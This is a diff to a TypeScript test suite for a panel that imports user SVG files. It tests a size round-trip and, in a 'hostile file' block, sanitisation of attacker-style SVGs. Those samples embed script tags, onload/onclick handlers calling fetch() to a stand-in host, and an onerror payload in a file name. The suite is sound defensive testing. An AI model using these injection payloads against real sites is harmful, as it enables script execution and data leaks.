@@ -103,22 +103,35 @@ describe('an SVG of the user’s own', () => {
     expect(inserted.map(({ name }) => name)).toEqual(names)
   })
 
-  it('is prepared at its own size, and its name names no layer', async () => {
+  it('is prepared at its own size, and its name names no layer, also at the next visit', async () => {
     const inserted: Picture[] = []
-    const { panel, ui } = await suite.open({
-      settings: { ...withKey.settings, layers: 'objects' },
-      handlers: { 'picture.insert': noting(inserted, 2) },
-    })
+    const journal: FakeJournal = new Map()
+    const settings = { ...withKey.settings, layers: 'objects' }
+    const handlers = { 'picture.insert': noting(inserted, 2) }
+    const first = await suite.open({ settings, journal, handlers })
     const text = svgOf(
-      640,
-      480,
-      '<rect width="640" height="480" fill="#fff"/><circle cx="120" cy="240" r="60" fill="#c33"/><circle cx="420" cy="240" r="60" fill="#36c"/>',
+      640.5,
+      480.25,
+      '<rect width="641" height="481" fill="#fff"/><circle cx="120" cy="240" r="60" fill="#c33"/><circle cx="420" cy="240" r="60" fill="#36c"/>',
     )
-    await bring(panel, 'drop', [svgFile('red apple and blue plum.svg', text)])
+    await bring(first.panel, 'drop', [svgFile('red apple and blue plum.svg', text)])
+    await first.ui.insert.click()
+    await first.ui.says('Inserted on the canvas')
+    await expect.poll(() => [...journal.values()].filter(({ picture }) => picture).length).toBe(1)
+    await first.close()
+    const { ui } = await suite.open({ settings, journal, handlers })
+    await ui.tiles.first().click()
     await ui.insert.click()
     await ui.says('Inserted on the canvas')
-    expect(inserted[0]).toMatchObject({ width: 640, height: 480, name: 'red apple and blue plum' })
-    expect(inserted[0]?.parts.join('')).not.toMatch(/apple|plum/i)
+    expect(inserted).toHaveLength(2)
+    for (const { width, height, name, parts } of inserted) {
+      expect({ width, height, name }).toEqual({
+        width: 640.5,
+        height: 480.25,
+        name: 'red apple and blue plum',
+      })
+      expect(parts.join('')).not.toMatch(/apple|plum/i)
+    }
   })
 
   it('is read in its own encoding, and decompressed', async () => {
@@ -246,7 +259,7 @@ describe('an own file and the storage', () => {
 /** What an attacker may write into a file. None of it may run, ask for anything, or stop the panel. */
 const BEACON = 'https://evil.example/x'
 const HOSTILE: readonly (readonly [what: string, text: string, expected: 'image' | RegExp])[] = [
-  ['a script', svgOf(9, 9, `<script>parent.hit=1;fetch('${BEACON}')</script><path d="M0 0h9v9z"/>`), 'image'],
+  ['a script', svgOf(9, 9, `<script>self.hit=1;fetch('${BEACON}')</script><path d="M0 0h9v9z"/>`), 'image'],
   [
     'event handlers',
     `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${BEACON}')"><path d="M0 0h9v9z" onclick="fetch('${BEACON}')"/></svg>`,
@@ -316,7 +329,7 @@ describe('a hostile file', () => {
     const contacted = contacts(page)
     await bring(panel, 'drop', [
       ...HOSTILE.map(([what, text]) => svgFile(`${what}.svg`, text)),
-      svgFile('<img src=x onerror="parent.hit=1">.svg'),
+      svgFile('<img src=x onerror="hit=1">.svg'),
     ])
     const images = HOSTILE.filter(([, , expected]) => expected === 'image').length + 1
     await ui.says(`${images} images are ready.`)
@@ -326,7 +339,7 @@ describe('a hostile file', () => {
     for (const [what, , expected] of HOSTILE)
       if (expected === 'image') expect(tiles.join()).toContain(what)
       else expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${what}.svg.*${expected.source}`)))
-    expect(await panel.locator('html').evaluate(() => 'hit' in window || 'hit' in parent)).toBe(false)
+    expect(await panel.locator('html').evaluate(() => 'hit' in window)).toBe(false)
     expect(contacted).toEqual([])
     await ui.ask('a fox')
     await panel.getByRole('img', { name: 'a fox' }).waitFor()
